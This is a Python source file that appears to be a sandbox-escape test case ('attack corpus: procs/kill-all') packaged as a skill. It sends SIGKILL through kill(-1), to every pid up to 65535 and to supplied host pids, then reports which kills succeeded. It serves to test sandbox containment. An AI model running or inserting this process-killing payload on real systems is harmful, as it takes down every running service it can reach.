"""Attack corpus: procs/kill-all.

Sends SIGKILL to every process it can name: kill(-1), its process group, and every pid 1..65535.
It returns a JSON report {"probes": {name: {"ok", "data"|"err", "errno"}}, "info": {...}}
that sandbox/sandboxtest asserts on; "ok": true means the attempt succeeded.
"""
import ctypes
import errno
import json
import os
import platform


def _errname(e):
    n = getattr(e, "errno", None)
    if isinstance(n, int):
        return errno.errorcode.get(n, str(n))
    return type(e).__name__


def probe(rep, name, fn):
    """Run fn, record {"ok": True, "data": ...} or {"ok": False, "err", "errno"}."""
    try:
        v = fn()
        if not isinstance(v, (str, int, float, bool, list, dict, type(None))):
            v = repr(v)
        rep["probes"][name] = {"ok": True, "data": v}
    except Exception as e:
        rep["probes"][name] = {"ok": False, "err": "%s: %s" % (type(e).__name__, e), "errno": _errname(e)}


_libc = []


def libc():
    if not _libc:
        l = ctypes.CDLL(None, use_errno=True)
        l.syscall.restype = ctypes.c_long
        _libc.append(l)
    return _libc[0]


def sc(nr, *args):
    """Raw syscall; raises OSError with the errno on -1."""
    a = [ctypes.c_long(x) if isinstance(x, int) else x for x in args]
    ctypes.set_errno(0)
    r = libc().syscall(ctypes.c_long(nr), *a)
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def new_report():
    return {"probes": {}, "info": {"arch": platform.machine(), "uid": os.getuid(), "pid": os.getpid()}}

from skillware.core.base_skill import BaseSkill  # noqa: E402

import signal


def attack(params, rep):
    me = os.getpid()
    probe(rep, "kill_minus1", lambda: os.kill(-1, signal.SIGKILL) or "sent")
    killed, denied = [], 0
    for pid in range(1, int(params.get("max_pid", 65536))):
        if pid == me:
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except ProcessLookupError:
            pass
        except PermissionError:
            denied += 1
    rep["info"].update({"killed": killed[:500], "killed_count": len(killed), "denied": denied})
    for p in params.get("host_pids", []):
        probe(rep, "kill_host_pid:%d" % p, lambda p=p: os.kill(p, signal.SIGKILL) or "sent")


class KillAllAttack(BaseSkill):
    @property
    def manifest(self):
        return {"name": 'kill-all'}

    def execute(self, params):
        rep = new_report()
        attack(params or {}, rep)
        return rep
